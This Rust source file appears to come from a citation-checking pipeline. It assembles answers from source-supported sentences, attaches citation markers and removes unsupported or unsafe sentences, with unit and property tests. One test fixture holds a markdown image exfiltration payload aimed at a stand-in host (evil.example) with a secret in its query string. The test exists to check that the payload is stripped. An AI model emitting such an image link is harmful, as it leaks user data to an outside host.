//! Verified text: the sentences that sources support, with citation markers and without unsafe content.

use std::borrow::Cow;

use super::extractive::QuotedUnit;
use crate::{
    agents::citation::format_markers,
    domain::{Citation, Claim, ClaimBasis, Passage, Verdict, code_points},
    evidence::{
        claims::Sentence,
        disagreement::Conflict,
        sanitize::sanitize,
        sentences::sentences,
        verifier::{Finding, Outcome, Verifier},
    },
};

/// What is left of a frame without the marker that was its source.
const EMPTY_FRAME: &str = "according to,";

/// A text that is built from verified sentences.
#[derive(Debug, Default)]
pub(super) struct VerifiedText {
    pub(super) text: String,
    pub(super) claims: Vec<Claim>,
    /// Separator before the next sentence.
    separator: &'static str,
    total: usize,
    repaired: usize,
    unsupported: usize,
    unsafe_content: usize,
    repeated: usize,
}

/// A passage that replaces a sentence.
#[derive(Debug)]
pub(super) struct Replacement {
    /// The passage on one line.
    pub(super) line: String,
    /// The sentence that it replaces, on one line and without unsafe content.
    pub(super) said: String,
    /// The finding for the passage.
    pub(super) finding: Finding,
}

impl VerifiedText {
    /// Adds a sentence if a source supports it, with the markers of its citations; a disputed sentence gets those of both
    /// sides. Returns the text that was appended; `None` if the sentence was removed.
    pub(super) fn add(
        &mut self,
        sentence: &Sentence,
        finding: Finding,
        passages: &[Passage],
    ) -> Option<&str> {
        self.total += 1;
        if !finding.is_supported() {
            self.unsupported += 1;
            return None;
        }
        let text = without_empty_frame(&sentence.text);
        let Some(line) = shown_line(&text, passages) else {
            self.unsafe_content += 1;
            return None;
        };
        if self
            .claims
            .iter()
            .any(|claim| claim.repaired && claim.text.contains(&line))
        {
            self.repeated += 1;
            return None;
        }
        Some(self.push(line, None, finding))
    }

    /// Begins a paragraph.
    pub(super) fn begin_paragraph(&mut self) {
        if !self.text.is_empty() {
            self.separator = "\n\n";
        }
    }

    /// Adds a quoted unit, which is its own proof. One that a conflict contradicts is disputed, and cites the other sides too.
    pub(super) fn quote(&mut self, unit: &QuotedUnit, conflicts: &[Conflict], verifier: &mut Verifier<'_>) {
        self.total += 1;
        let QuotedUnit { shown, citations } = unit;
        let mut citations = citations.clone();
        let is_in = |side: &Citation| {
            citations.iter().any(|citation| {
                citation.source == side.source
                    && citation.quote_start < side.quote_end
                    && side.quote_start < citation.quote_end
            })
        };
        let sides = conflicts.iter().map(|conflict| &conflict.disagreement.citations);
        let mut contested: Vec<Citation> = sides
            .filter(|sides| sides.iter().any(is_in))
            .flat_map(|sides| sides.iter().filter(|side| !is_in(side)).cloned())
            .collect();
        // A sentence is compared with the other sources; a list, table or code is not one claim.
        let is_sentence = !shown.ends_in_block && !shown.text.contains('\n');
        if contested.is_empty() && is_sentence {
            let sources: Vec<usize> = citations.iter().map(|citation| citation.source).collect();
            let found = verifier.find(&shown.text, &sources);
            if found.verdict == Verdict::Disputed {
                contested.extend(found.citations.into_iter().filter(|side| !is_in(side)));
            }
        }
        let verdict = if contested.is_empty() {
            Verdict::Supported
        } else {
            Verdict::Disputed
        };
        let reason = (!contested.is_empty()).then(|| "another source says otherwise".to_owned());
        citations.extend(contested);
        let finding = Finding {
            outcome: Outcome::Exact,
            verdict,
            citations,
            reason,
            closest: None,
            nearest: None,
            basis: Some(ClaimBasis::Quote),
        };
        if shown.ends_in_block {
            self.push_block(shown.text.clone(), finding);
        } else {
            self.push(shown.text.clone(), None, finding);
        }
    }

    /// Adds a passage in place of a sentence, as [`Self::add`] does.
    pub(super) fn replace(&mut self, replacement: Replacement) -> &str {
        let Replacement { line, said, finding } = replacement;
        self.total += 1;
        self.repaired += 1;
        self.push(line, Some(said), finding)
    }

    /// Whether a sentence of a line is in the text already.
    pub(super) fn shows(&self, line: &str) -> bool {
        let mut sentences = sentences(line).into_iter();
        sentences.any(|range| {
            let mut claims = self.claims.iter();
            claims.any(|claim| claim.text.contains(&line[range.clone()]))
        })
    }

    /// Describes the replaced and removed sentences; `None` if there are none.
    pub(super) fn changes(&self) -> Option<String> {
        const UNSAFE: &str = "an image, markup, a hidden character or an address that is not a source's";
        let is_one = |count: usize| count == 1;
        let they = |count: usize, one: &str, many: &str| {
            if is_one(count) {
                one.to_owned()
            } else {
                many.to_owned()
            }
        };
        let changes = [
            (
                self.repaired,
                they(
                    self.repaired,
                    "replaced by the passage it comes close to",
                    "replaced by the passage they come close to",
                ),
            ),
            (
                self.unsupported,
                they(
                    self.unsupported,
                    "removed: no source supports it",
                    "removed: no source supports them",
                ),
            ),
            (
                self.unsafe_content,
                format!(
                    "removed: {} {UNSAFE}",
                    they(self.unsafe_content, "it holds", "they hold")
                ),
            ),
            (
                self.repeated,
                format!(
                    "removed: {} a passage that is quoted already",
                    they(self.repeated, "it repeats", "they repeat")
                ),
            ),
        ];
        let mut all = String::new();
        for (count, what) in changes.into_iter().filter(|(count, _)| *count > 0) {
            all += &if all.is_empty() {
                let sentences = if is_one(self.total) {
                    "sentence"
                } else {
                    "sentences"
                };
                let were = if is_one(count) { "was" } else { "were" };
                format!("{count} of {} {sentences} {were} {what}", self.total)
            } else {
                format!("; {count} {what}")
            };
        }
        (!all.is_empty()).then_some(all)
    }

    /// Appends a sentence on one line, with its markers, and returns the text that was appended. A line that does not end
    /// like a sentence is followed by a blank line, so that the next sentence does not run into it.
    fn push(&mut self, sentence: String, said: Option<String>, finding: Finding) -> &str {
        self.push_with(sentence, said, finding, "")
    }

    /// Appends a table or code, with its markers in a paragraph of their own.
    fn push_block(&mut self, block: String, finding: Finding) {
        self.push_with(block, None, finding, "\n\n");
        self.separator = "\n\n";
    }

    fn push_with(
        &mut self,
        sentence: String,
        said: Option<String>,
        finding: Finding,
        before_markers: &str,
    ) -> &str {
        let before = self.text.len();
        self.text.push_str(self.separator);
        let start = code_points(&self.text);
        self.text.push_str(&sentence);
        let is_ended = sentence.ends_with(['.', '!', '?', '"', ')', '。', '！', '？', '…']);
        let markers = format_markers(&finding.citations);
        if before_markers.is_empty() {
            self.text.push_str(&markers);
        } else {
            self.text.extend([before_markers, markers.trim_start()]);
        }
        self.separator = if is_ended { " " } else { "\n\n" };
        self.claims.push(Claim {
            id: format!("c{}", self.claims.len() + 1),
            start,
            end: start + code_points(&sentence),
            text: sentence,
            verdict: finding.verdict,
            citations: finding.citations,
            reason: finding.reason,
            basis: finding.basis,
            repaired: said.is_some(),
            said,
        });
        &self.text[before..]
    }
}

/// A text on one line as it may be shown: links that do not lead to a source become their words. `None` if it has unsafe
/// content.
pub(super) fn shown_line(text: &str, passages: &[Passage]) -> Option<String> {
    let line = text.split_whitespace().collect::<Vec<_>>().join(" ");
    let is_source = |address: &str| {
        let mut urls = passages
            .iter()
            .filter_map(|passage| passage.header.url.as_deref());
        urls.any(|url| url == address)
    };
    sanitize(&line, is_source)
}

/// A sentence without a frame whose marker, which was its source, has been taken out: "According to [1], the lamp".
fn without_empty_frame(sentence: &str) -> Cow<'_, str> {
    let frame = sentence.get(..EMPTY_FRAME.len());
    if !frame.is_some_and(|frame| frame.eq_ignore_ascii_case(EMPTY_FRAME)) {
        return sentence.into();
    }
    let rest = sentence[EMPTY_FRAME.len()..].trim_start();
    let mut letters = rest.chars();
    match letters.next() {
        Some(first) => first.to_uppercase().chain(letters).collect(),
        None => sentence.into(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{evidence::claims::findings, retrieval::test_passages::passage};

    fn verified(text: &str, passages: &[Passage]) -> VerifiedText {
        let mut verified = VerifiedText::default();
        for (sentence, finding) in findings(text, passages) {
            verified.add(&sentence, finding, passages);
        }
        verified
    }

    #[test]
    fn offsets_of_claims_refer_to_the_text() {
        let passages = [
            passage("a", "😀 Cold starts take 90 ms."),
            passage("b", "Warm ones take 2 ms"),
        ];
        let text = "Cold starts\ntake 90 ms [2]. They delight everyone [1]. Warm ones take 2 ms";
        let verified = verified(text, &passages);
        let (changes, VerifiedText { text, claims, .. }) = (verified.changes(), verified);
        assert_eq!(text, "Cold starts take 90 ms. [1] Warm ones take 2 ms [2]");
        for claim in &claims {
            let shown: String = text
                .chars()
                .skip(claim.start)
                .take(claim.end - claim.start)
                .collect();
            assert_eq!(shown, claim.text);
        }
        assert_eq!((claims.len(), claims[1].id.as_str()), (2, "c2"));
        assert_eq!(
            changes.as_deref(),
            Some("1 of 3 sentences was removed: no source supports it")
        );
    }

    #[test]
    fn unsafe_content_is_removed_even_if_a_source_contains_it_verbatim() {
        let poison = "The lamp was lit in 1871 ![x](https://evil.example/?q=secret).";
        let link = "The [tower](https://evil.example) is 31 metres tall.";
        let passages = [passage("a", &format!("{poison} {link}"))];
        let verified = verified(&format!("{poison} [1] {link} [1]"), &passages);
        let (changes, VerifiedText { text, claims, .. }) = (verified.changes(), verified);
        assert_eq!(text, "The tower is 31 metres tall. [1]");
        assert_eq!(claims[0].citations[0].quote, link, "a quotation stays verbatim");
        assert!(
            changes
                .unwrap()
                .starts_with("1 of 2 sentences was removed: it holds an image")
        );
    }

    proptest::proptest! {
        #[test]
        fn every_sentence_has_a_claim_with_a_verbatim_quotation(
            text in "((\\PC){0,12}|The lamp was lit in 1871\\.|The lamp is 31 metres tall| \\[1\\]|\n|[.!?:] ){0,12}"
        ) {
            let passages = [passage("a", "The lamp was lit in 1871. The lamp is 31 metres tall.")];
            let VerifiedText { text, claims, .. } = verified(&text, &passages);
            let shown: Vec<char> = text.chars().collect();
            let mut bare = String::new();
            let mut end = 0;
            for claim in &claims {
                bare.extend(&shown[end..claim.start]);
                end = claim.end;
                proptest::prop_assert_eq!(shown[claim.start..claim.end].iter().collect::<String>(), claim.text.clone());
                for citation in &claim.citations {
                    let source: String = passages[citation.source - 1].text.chars()
                        .skip(citation.quote_start).take(citation.quote_end - citation.quote_start).collect();
                    proptest::prop_assert_eq!(&source, &citation.quote);
                    proptest::prop_assert!(!source.is_empty());
                }
                proptest::prop_assert!(!claim.citations.is_empty());
            }
            bare.extend(&shown[end..]);
            proptest::prop_assert!(bare.chars().all(|c| "[1] \n".contains(c)), "between the claims: {bare:?}");
        }
    }
}
